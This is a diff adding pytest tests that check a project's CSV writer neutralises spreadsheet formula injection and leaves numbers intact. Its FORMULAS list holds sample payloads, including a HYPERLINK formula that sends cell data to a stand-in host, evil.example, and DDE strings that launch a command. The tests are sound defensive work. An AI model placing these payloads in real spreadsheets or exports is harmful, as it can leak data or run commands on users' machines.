@@ -128,7 +128,76 @@ def test_paths_between_snapshot_region_and_root(tmp_path):
 
 
 def test_an_undeclared_artefact_is_refused_and_named(tmp_path):
-    with pytest.raises(ArtifactInvalid, match=r"artefact 'scratch' is not declared in planning/contracts\.py"):
+    with pytest.raises(
+        ArtifactInvalid, match=r"artefact 'scratch' is not declared in planning/contracts\.py"
+    ):
         store.write_artifact(tmp_path, "scratch", pd.DataFrame({"a": [1]}))
     with pytest.raises(ArtifactMissing, match=r"artefact 'scratch' not found \(and not declared"):
         store.read_artifact(tmp_path, "scratch")
+
+
+# ------------------------------------------------------------------------------------------------ formulas
+# Issue 18 case 7: text a spreadsheet would run as a formula (OWASP "CSV Injection") is neutralised in every CSV
+# the workbook writes; numbers are never touched.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.adversarial
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_text_is_quoted_in_the_file_and_read_back_as_written(tmp_path, text):
+    swot = pd.DataFrame({"quadrant": ["S"], "item": [text], "source": ["params"], "evidence": [text]})
+    path = store.write_artifact(tmp_path, "swot", swot, step="01_market_analysis")
+    cells = pd.read_csv(path, dtype=str, keep_default_na=False)  # as a spreadsheet sees the cells
+    for column in ("item", "evidence"):
+        assert cells[column][0].startswith("'"), cells[column][0]
+        assert cells[column][0][1:] == text.replace("\r", "\n")
+    assert len(cells) == 1, "a carriage return must not split the row"
+    back = store.read_artifact(tmp_path, "swot")
+    assert back["item"][0] == back["evidence"][0] == text.replace("\r", "\n")
+
+
+@pytest.mark.adversarial
+def test_numbers_plain_text_and_numeric_text_are_left_as_they_are(tmp_path):
+    competitors = pd.DataFrame(
+        {
+            "competitor": ["Acme", "-5", "+10%", "'=quoted", "-", "a=b"],
+            "dimension": ["price"] * 6,
+            "score": [-1.5, 2.0, -0.25, 3.0, 4.0, 5.0],
+        }
+    )
+    path = store.write_artifact(tmp_path, "competitors", competitors)
+    assert path.read_text().splitlines() == [
+        "competitor,dimension,score",
+        "Acme,price,-1.500000",  # a negative number is a number
+        "-5,price,2.000000",  # a text that is a plain number runs nothing in a spreadsheet
+        "+10%,price,-0.250000",
+        "''=quoted,price,3.000000",  # a quote before a formula gets one more, so reading back is exact
+        "'-,price,4.000000",
+        "a=b,price,5.000000",
+    ]
+    back = store.read_artifact(tmp_path, "competitors")
+    assert back["competitor"].tolist() == competitors["competitor"].tolist()
+    assert back["score"].tolist() == competitors["score"].tolist()
+
+
+@pytest.mark.adversarial
+def test_escaping_leaves_the_callers_frame_alone_and_is_a_no_op_without_formulas():
+    frame = pd.DataFrame({"a": ["=1+1", "ok"], "b": [1, -2]})
+    out = store.escape_formulas(frame)
+    assert out["a"].tolist() == ["'=1+1", "ok"] and frame["a"].tolist() == ["=1+1", "ok"]
+    clean = pd.DataFrame({"a": ["x", None], "b": [-1.0, 2.0], "c": pd.Categorical(["u", "v"])})
+    assert store.escape_formulas(clean) is clean
+    assert store.escape_formulas(pd.DataFrame({"c": pd.Categorical(["@x"])}))["c"].tolist() == ["'@x"]
+
+
+@pytest.mark.adversarial
+@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "-x", "'", "''", "'x", "x", "", "\n@x", "-5", "+1e3"])
+def test_escape_then_unescape_is_the_identity(text):
+    assert store.unescape_formula(store.escape_formula(text)) == text
